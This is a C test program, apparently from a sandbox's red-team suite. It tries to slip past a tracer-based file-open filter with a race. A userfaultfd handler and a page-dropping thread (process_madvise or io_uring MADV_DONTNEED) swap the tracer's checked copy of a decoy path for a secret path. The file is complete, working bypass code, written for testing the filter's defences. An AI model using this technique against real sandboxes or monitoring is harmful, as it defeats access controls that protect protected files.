/* area_uffd_refill.c: the tracer's held copy taken away and refilled by a userfaultfd's reader
 * (review 52).
 *
 * The scratch area is the program's read-only, private anonymous memory; nothing the program
 * does writes it -- but a userfaultfd whose range takes in the area fills a *missing* page of
 * it on a fault, with any contents, read-only mapping or not (UFFDIO_COPY installs the page;
 * UFFDIO_REGISTER needs VM_MAYWRITE only, which a private mapping has).  A page goes missing
 * by MADV_DONTNEED, which madvise's guard refuses on the area but process_madvise (on the
 * caller's own memory, its ranges in an iovec) does not: "zeros, refusals only" (red team 74)
 * -- unless a userfaultfd is registered there, when the next reader of the page waits for the
 * fault's handler and reads what it puts there.
 *
 * So: a first held open lets the tracer write the slot's first page (a registered missing page
 * is one the tracer's own write cannot fault in: its write fails, the call is refused); then
 * the area is registered, one thread zaps the first page of the first slots in a loop (and reads
 * it at once, so that it is there again for the tracer's next write), another answers each
 * fault with a page whose path is the secret's, and the main thread opens the
 * decoy: the tracer checks the decoy, writes its copy, the zapper takes the page away, and the
 * kernel's read of the copy faults into the handler.  A third thread flips the program's own
 * buffer (decoy <-> secret): natively (no tracer, no area: the register fails) that is what
 * reaches the secret (the control).
 *
 * "ring" (close 24): the zapper is an io_uring's IORING_OP_MADVISE(MADV_DONTNEED) instead --
 * the same drop, its range in a submission queue entry no filter reads, where a rule permits
 * io-uring (review 52: ESCAPED on main after process_madvise's guard); the area sealed
 * (mseal) refuses it (EPERM), whatever the door.
 *
 *   area_uffd_refill SECRET DECOY [ring]   (absolute paths of the same length)
 */
#include "attack.h"
#include <linux/io_uring.h>
#include <linux/userfaultfd.h>
#include <poll.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/uio.h>

#define BASE 0x100000000000UL
#define AREA (1UL << 30)
#define SLOT (256UL * 1024)
#define SLOTS 8
#define PATH1 32
#define PAGE 4096UL

static const char *secret, *decoy;
static char path[4096];
static volatile int done, registered;
static int uffd = -1, pidfd = -1;
static volatile unsigned long faults, zaps;
static volatile int zap_error;  /* (the errno of the zapper's last refused advice) */

/* The ring of "ring" mode, set up before the threads: its submission and completion rings. */
static int ring_fd = -1;
static char *sq, *cq;
static struct io_uring_sqe *sqes;
static struct io_uring_params rp;

static int ring_setup(void) {
    memset(&rp, 0, sizeof rp);
    ring_fd = (int)syscall(SYS_io_uring_setup, SLOTS, &rp);
    if (ring_fd < 0) return -errno;
    size_t sq_size = rp.sq_off.array + rp.sq_entries * sizeof(unsigned);
    size_t cq_size = rp.cq_off.cqes + rp.cq_entries * sizeof(struct io_uring_cqe);
    if (rp.features & IORING_FEAT_SINGLE_MMAP && cq_size > sq_size) sq_size = cq_size;
    sq = mmap(NULL, sq_size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring_fd,
              IORING_OFF_SQ_RING);
    cq = sq;
    if (!(rp.features & IORING_FEAT_SINGLE_MMAP))
        cq = mmap(NULL, cq_size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring_fd,
                  IORING_OFF_CQ_RING);
    sqes = mmap(NULL, rp.sq_entries * sizeof *sqes, PROT_READ | PROT_WRITE,
                MAP_SHARED | MAP_POPULATE, ring_fd, IORING_OFF_SQES);
    if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED) return -errno;
    return 0;
}

/* IORING_OP_MADVISE(MADV_DONTNEED) of the first page of each of the first slots, by the ring:
 * 0 when each was done, else the first failure's -errno. */
static int ring_zap(void) {
    unsigned *tail = (unsigned *)(sq + rp.sq_off.tail);
    unsigned mask = *(unsigned *)(sq + rp.sq_off.ring_mask);
    unsigned t = *tail;
    for (int s = 0; s < SLOTS; s++, t++) {
        unsigned idx = t & mask;
        memset(&sqes[idx], 0, sizeof sqes[idx]);
        sqes[idx].opcode = IORING_OP_MADVISE;
        sqes[idx].addr = BASE + s * SLOT;
        sqes[idx].len = (unsigned)PAGE;
        sqes[idx].fadvise_advice = MADV_DONTNEED;
        ((unsigned *)(sq + rp.sq_off.array))[idx] = idx;
    }
    __atomic_store_n(tail, t, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, ring_fd, SLOTS, SLOTS, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
        return -errno;
    unsigned *head = (unsigned *)(cq + rp.cq_off.head);
    unsigned cmask = *(unsigned *)(cq + rp.cq_off.ring_mask);
    struct io_uring_cqe *cqes = (struct io_uring_cqe *)(cq + rp.cq_off.cqes);
    int result = 0;
    for (int s = 0; s < SLOTS; s++) {
        while (*head == __atomic_load_n((unsigned *)(cq + rp.cq_off.tail), __ATOMIC_ACQUIRE))
            ;
        int res = cqes[*head & cmask].res;
        if (res < 0 && !result) result = res;
        __atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
    }
    return result;
}

static void *flip(void *unused) {
    (void)unused;
    size_t n = strlen(secret) + 1;
    while (!done) {
        memcpy(path, secret, n);
        memcpy(path, decoy, n);
    }
    return NULL;
}

static void *handler(void *unused) {
    (void)unused;
    static char page[PAGE] __attribute__((aligned(4096)));
    memset(page, 0, sizeof page);  /* (an openat2's how at 0: no flags, no resolve flags) */
    memcpy(page + PATH1, secret, strlen(secret) + 1);
    while (!registered && !done) usleep(1000);
    while (!done) {
        struct pollfd p = {.fd = uffd, .events = POLLIN};
        if (poll(&p, 1, 100) <= 0) continue;
        struct uffd_msg msg;
        if (read(uffd, &msg, sizeof msg) != (ssize_t)sizeof msg) continue;
        if (msg.event != UFFD_EVENT_PAGEFAULT) continue;
        unsigned long at = msg.arg.pagefault.address & ~(PAGE - 1);
        struct uffdio_copy copy = {.dst = at, .src = (unsigned long)page, .len = PAGE};
        ioctl(uffd, UFFDIO_COPY, &copy);
        faults++;
    }
    return NULL;
}

static void *zapper(void *unused) {
    (void)unused;
    struct iovec v[SLOTS];
    for (int s = 0; s < SLOTS; s++) {
        v[s].iov_base = (void *)(BASE + s * SLOT);
        v[s].iov_len = PAGE;
    }
    while (!registered && !done) usleep(1000);
    while (!done) {
        if (ring_fd >= 0) {
            int r = ring_zap();
            if (r == 0) zaps++;
            else zap_error = -r;
        } else if (syscall(SYS_process_madvise, pidfd, v, SLOTS, MADV_DONTNEED, 0) >= 0) {
            zaps++;
        } else {
            zap_error = errno;
        }
        /* (and faulted in again at once, the secret's page: a page left missing is one the
         * tracer's next write fails on -- its write cannot wait for the handler) */
        for (int s = 0; s < SLOTS; s++) (void)*(volatile char *)(BASE + s * SLOT + PATH1);
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc != 3 && (argc != 4 || strcmp(argv[3], "ring")))
        usage("area_uffd_refill SECRET DECOY [ring]");
    secret = argv[1];
    decoy = argv[2];
    if (argc == 4) {
        int r = ring_setup();
        if (r < 0 && !tracer_pid()) skipped("no io_uring here: %s", ename(-r));
        if (r < 0) blocked("io_uring_setup: %s", ename(-r));
    }
    memcpy(path, decoy, strlen(decoy) + 1);
    pidfd = (int)syscall(SYS_pidfd_open, getpid(), 0);
    pthread_t f, h, z;
    /* (all made before the area is registered: a clone3 held in a missing page of it fails) */
    pthread_create(&f, NULL, flip, NULL);  /* (not alone: the opens are held) */
    pthread_create(&h, NULL, handler, NULL);
    pthread_create(&z, NULL, zapper, NULL);
    int fd = open(decoy, O_RDONLY);        /* (the slot's first page written by the tracer) */
    if (fd >= 0) close(fd);
    uffd = (int)syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK);
    if (uffd < 0) {
        done = 1;
        if (!tracer_pid()) skipped("no userfaultfd here: %s", ename(errno));
        blocked("userfaultfd: %s", ename(errno));
    }
    struct uffdio_api api = {.api = UFFD_API};
    if (ioctl(uffd, UFFDIO_API, &api) < 0) blocked("UFFDIO_API: %s", ename(errno));
    struct uffdio_register reg = {.range = {.start = BASE, .len = AREA},
                                  .mode = UFFDIO_REGISTER_MODE_MISSING};
    int r = ioctl(uffd, UFFDIO_REGISTER, &reg);
    note("UFFDIO_REGISTER of the area: %s", r < 0 ? ename(errno) : "ok");
    if (r == 0) registered = 1;
    int refused = 0, other = 0;
    for (int i = 0; i < 20000; i++) {
        fd = open(path, O_RDONLY);
        if (fd < 0) {
            refused++;
            continue;
        }
        if (is_secret_fd(fd)) {
            done = 1;
            escaped("open %d of the decoy gave the secret (fd -> %s; %lu faults, %lu zaps)", i,
                    fd_name(fd), faults, zaps);
        }
        other++;
        close(fd);
    }
    done = 1;
    note("%s(MADV_DONTNEED) of the area: %s",
         ring_fd >= 0 ? "IORING_OP_MADVISE" : "process_madvise",
         zaps ? "ok" : zap_error ? ename(zap_error) : "never ran");
    blocked("20000 opens: %d refused, %d not the secret (%lu faults, %lu zaps)", refused, other,
            faults, zaps);
}
